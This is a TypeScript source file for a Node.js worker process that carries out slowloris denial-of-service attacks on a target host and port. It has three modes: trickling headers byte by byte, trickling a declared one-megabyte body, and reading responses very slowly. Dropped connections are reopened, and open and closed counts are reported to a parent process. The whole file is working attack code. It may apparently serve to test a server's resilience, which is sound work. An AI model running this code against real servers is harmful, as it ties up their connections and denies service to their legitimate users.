/**
 * Slow people (slowloris): connections that send a head byte by byte, or a body, or that hardly read the answer; each comes back when it
 * is thrown out. A process of its own, driven by messages: an `Attack` begins, `stop` ends it; both are answered with an `AttackReport`.
 */
import { connect, type Socket } from 'node:net';

export type AttackKind = 'head' | 'body' | 'read';

export interface Attack {
  readonly kind: AttackKind;
  readonly host: string;
  readonly port: number;
  readonly connections: number;
  /** What is asked for by those who do not read. */
  readonly path: string;
}

export interface AttackReport {
  readonly open: number;
  /** How often one was thrown out. */
  readonly closed: number;
}

/** Each moves once in this time: slow enough to be useless, quick enough to look alive. */
const EVERY_MS = 2_000;
const TICK_MS = 20;
const BACK_MS = 500;
/** Opened in one tick. */
const OPEN_AT_ONCE = 20;
const BODY_BYTES = 1_000_000;
/** Read in one move by those who hardly read; all of them share the buffer, nobody looks at it. */
const sip = Buffer.allocUnsafeSlow(512);

class Attacker {
  readonly #attack: Attack;
  #socket: Socket | undefined;
  #isAllowed = true;
  static closed = 0;

  constructor(attack: Attack) {
    this.#attack = attack;
  }

  get isOpen(): boolean {
    return this.#socket?.readyState === 'open';
  }

  move(): void {
    if (!this.#isAllowed) return;
    if (this.#socket === undefined) this.#open();
    else if (this.#attack.kind === 'head') this.#socket.write('X-Slow: 1\r\n');
    else if (this.#attack.kind === 'body') this.#socket.write(' ');
    else this.#socket.resume();
  }

  leave(): void {
    this.#isAllowed = false;
    this.#socket?.destroy();
  }

  #open(): void {
    const { kind, host, port, path } = this.#attack;
    // `false` stops reading until the next move
    const socket = connect({ port, host, ...(kind === 'read' ? { onread: { buffer: sip, callback: () => false } } : {}) });
    this.#socket = socket;
    socket.on('error', () => undefined);
    if (kind !== 'read') socket.resume();
    socket.on('end', () => socket.destroy());
    socket.on('close', () => {
      if (!this.#isAllowed) return;
      Attacker.closed += 1;
      this.#isAllowed = false;
      setTimeout(() => {
        this.#isAllowed = true;
        this.#socket = undefined;
      }, BACK_MS);
    });
    const start = `${kind === 'body' ? 'POST' : 'GET'} ${path} HTTP/1.1\r\nHost: ${host}:${port}\r\n`;
    if (kind === 'head') socket.write(start);
    else if (kind === 'read') socket.write(`${start}\r\n`);
    else socket.write(`${start}Content-Type: text/plain\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`);
  }
}

let attackers: Attacker[] = [];
let timer: NodeJS.Timeout | undefined;

function begin(attack: Attack): void {
  Attacker.closed = 0;
  attackers = Array.from({ length: attack.connections }, () => new Attacker(attack));
  let opened = 0;
  let next = 0;
  const share = Math.ceil((attack.connections * TICK_MS) / EVERY_MS);
  timer = setInterval(() => {
    if (opened < attackers.length) for (const attacker of attackers.slice(opened, (opened += OPEN_AT_ONCE))) attacker.move();
    else for (let i = 0; i < share; i++) attackers[next++ % attackers.length]?.move();
  }, TICK_MS);
}

process.on('message', (order: Attack | 'report' | 'stop') => {
  if (typeof order === 'object') begin(order);
  const report: AttackReport = { open: attackers.filter((attacker) => attacker.isOpen).length, closed: Attacker.closed };
  if (order === 'stop') {
    clearInterval(timer);
    for (const attacker of attackers) attacker.leave();
    attackers = [];
  }
  process.send?.(report);
});
process.once('disconnect', () => process.exit(0));
